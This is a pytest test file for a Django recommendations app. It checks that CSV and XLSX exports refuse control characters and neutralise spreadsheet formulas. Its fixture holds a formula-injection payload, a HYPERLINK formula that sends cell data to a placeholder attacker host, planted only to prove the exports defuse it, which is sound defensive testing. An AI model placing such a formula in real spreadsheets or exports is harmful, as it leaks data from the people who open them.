"""Exports stay openable and inert whatever text the data holds.

Control characters are refused on the way in; rows that bypassed validation (loaddata,
raw SQL) still export. Text that a spreadsheet would run as a formula stays text.
"""

import csv
import io

import pytest
from django.core.exceptions import ValidationError
from openpyxl import load_workbook

from recommendations.models import Recommendation, StatusChange
from recommendations.services import save_recommendation, transition_status
from viona.tables import csv_bytes, xlsx_bytes

EXPORT = "/api/v1/recommendations/export/"
OVERVIEW = "/api/v1/overview/"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.mark.parametrize("text", ["a\x01b", "bel\x07", "x\x1fy", "tab\x0bverticaal"])
def test_the_api_refuses_control_characters_with_a_clear_error(
    api_as, coordinator, recommendation, english, text
):
    response = api_as(coordinator).patch(
        f"/api/v1/recommendations/{recommendation.code}/",
        {"title": text},
        format="json",
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert response.status_code == 400
    assert "control character" in response.json()["title"][0]
    recommendation.refresh_from_db()
    assert recommendation.title == "Sectorconvenant continueren"


def test_tabs_and_line_breaks_stay_allowed(api_as, coordinator, recommendation):
    text = "Eerste regel\r\nTweede\tregel"
    response = api_as(coordinator).patch(
        f"/api/v1/recommendations/{recommendation.code}/", {"text": text}, format="json"
    )
    assert response.status_code == 200
    recommendation.refresh_from_db()
    assert recommendation.text == text


def test_the_services_refuse_control_characters(recommendation, coordinator):
    recommendation.text = "ver\x0cborgen"
    with pytest.raises(ValidationError) as refused:
        save_recommendation(recommendation=recommendation, user=coordinator)
    assert "text" in refused.value.message_dict
    with pytest.raises(ValidationError) as refused:
        transition_status(
            recommendation=recommendation,
            to_status="accepted",
            user=coordinator,
            note="akkoord\x02",
        )
    assert "note" in refused.value.message_dict
    assert not StatusChange.objects.exists()
    assert Recommendation.objects.get().status == "open"


@pytest.fixture
def hostile_row(recommendation):
    """A row written past validation (as loaddata or SQL may write it): a formula. Control
    characters cannot get in that way either (tests/test_plain_text.py)."""
    Recommendation.objects.filter(pk=recommendation.pk).update(title=FORMULA)
    return recommendation


def test_the_xlsx_export_opens_and_shows_the_formula_as_text(api, hostile_row):
    response = api.get(EXPORT, {"format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    title = sheet.cell(row=2, column=header.index("Titel") + 1)
    assert title.value == FORMULA
    assert title.data_type == "s"


def test_the_csv_export_defuses_the_formula(api, hostile_row):
    response = api.get(EXPORT, {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    title = rows[1][rows[0].index("Titel")]
    assert title == f"'{FORMULA}"


def test_the_overview_exports_survive_hostile_changes(api, hostile_row, coordinator):
    api.force_authenticate(coordinator)  # notes are for logged-in readers
    note = "+32 2 553 00 00 belde: akkoord"
    transition_status(recommendation=hostile_row, to_status="accepted", user=coordinator, note=note)
    params = {"group_by": "owner", "since": "2000-01-01"}
    response = api.get(OVERVIEW, {**params, "format": "xlsx"})
    assert response.status_code == 200
    changes = load_workbook(io.BytesIO(response.content)).worksheets[1]
    cells = {cell.value: cell.data_type for row in changes.iter_rows(min_row=2) for cell in row}
    assert cells[FORMULA] == cells[note] == "s"
    text = api.get(OVERVIEW, {**params, "format": "csv"}).content.decode("utf-8-sig")
    assert f"'{note}" in text
    assert "'=HYPERLINK" in text


@pytest.mark.parametrize(
    ("value", "in_csv"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("\tverborgen", "'\tverborgen"),
        ("gewone tekst = ok", "gewone tekst = ok"),
        (-5, "-5"),
        (3.5, "3.5"),
        (None, ""),
    ],
)
def test_csv_cells(value, in_csv):
    rows = list(csv.reader(io.StringIO(csv_bytes([[value]]).decode("utf-8-sig"))))
    assert rows == [[in_csv]]


def test_xlsx_keeps_numbers_numeric_and_text_textual():
    content = xlsx_bytes([("Blad", [["=1+1", -5, "a\x00b"]], set())])
    row = next(load_workbook(io.BytesIO(content)).active.iter_rows())
    assert [cell.value for cell in row] == ["=1+1", -5, "ab"]
    assert [cell.data_type for cell in row] == ["s", "n", "s"]
